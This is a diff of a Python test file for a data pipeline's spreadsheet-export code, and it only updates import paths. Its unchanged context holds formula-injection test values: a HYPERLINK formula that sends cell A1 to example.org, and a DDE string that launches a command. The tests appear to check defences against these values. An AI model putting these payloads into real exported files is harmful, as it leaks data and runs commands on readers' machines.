@@ -9,9 +9,9 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from valentina_pipeline.datasets import Csv
-from valentina_pipeline.integrations import captions, ledgers, provenance, tables
-from valentina_pipeline.serving.consistency import Row, _table
+from valentina_pipeline.datasets.tables import Csv
+from valentina_pipeline.integrations import captions, ledgers, run_inputs, tables
+from valentina_pipeline.serving.cli.consistency import Row, _table
 
 EVIL = '=HYPERLINK("http://example.org?"&A1,"her")'
 RUN = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
@@ -55,7 +55,7 @@ def test_captions_keep_what_people_write(tmp_path: Path) -> None:
     assert [row[name] for name in ("source_name", "human", "editor")] == [
         "=cmd|' /C calc'!A0.png", "-her, smiling", "@ada",
     ]  # fmt: skip
-    assert provenance._edits(file) == [("a" * 64, "-her, smiling")]
+    assert run_inputs._edits(file) == [("a" * 64, "-her, smiling")]
 
 
 def test_a_revocation_s_reason_is_no_formula(tmp_path: Path) -> None:
